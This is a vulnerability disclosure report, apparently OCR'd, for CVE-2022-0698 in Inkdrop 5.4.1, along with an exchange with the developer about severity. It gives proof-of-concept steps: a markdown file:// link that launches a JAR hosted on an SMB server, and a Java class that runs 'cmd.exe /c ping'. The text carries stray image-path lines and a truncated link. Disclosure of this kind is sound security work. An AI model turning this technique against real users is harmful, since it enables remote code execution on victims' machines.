Inkdrop 5.4.1 - RCE via file URI schemes

Our security team found a security issue inside InkDrop version 5.4.1. We have reserved the CVE-2022-0698 to refer to this issue. Attached below is the link to our responsible disclosure policy.

Bug description

InkDrop version 5.4.1 allows an attacker to create a malicious link inside a markdown file. When the victim clicks the link, the application opens the file using the default program. An attacker can abuse this, for example, to run a JAR file from an smb sever without warning the user.

CVSSv3 Vector:


CVSSv3 Base Score:


Steps to reproduce

  1. Create a markdown file with the following content.
[Click me](file://
  1. Create a malicious JAR file and host it in a SMB server. The following code can be converted into a JAR file using jar cvfe Exec.jar Exec *.class

class Exec {public static void main(String[] args) {
        String command="cmd.exe /c ping";
        try {
            Process process = Runtime.getRuntime().exec(command);
        } catch (IOException e) {
  1. Send the markdown file to the victim. When the victim clicks the markdown link the JAR file will be executed from the remote server.

It is important to validate the URI and file type before opening it. In this PoC the JAR file is executed without even notify the user.

Screenshots and files


System Information

  • Version: InkDrop version 5.4.1.
  • Operating System: Windows 10.0.19042 N/A Build 19042.
  • Installer: Inkdrop-demo-5.4.1-Windows

Hi Oscar,

Thanks for the report. I don’t understand the severity.
How easy can attackers let people run those jar files via SMB?

Hi Takuya,

A possible attack vector could be that an attacker sends a Markdown file with themalicious link and when the user sees the preview, clicks on it. Applications in electron must validate the links and at least warn the user while opening itbecause this can result in RCE.

But the attacker must be in the same local network as the target, no?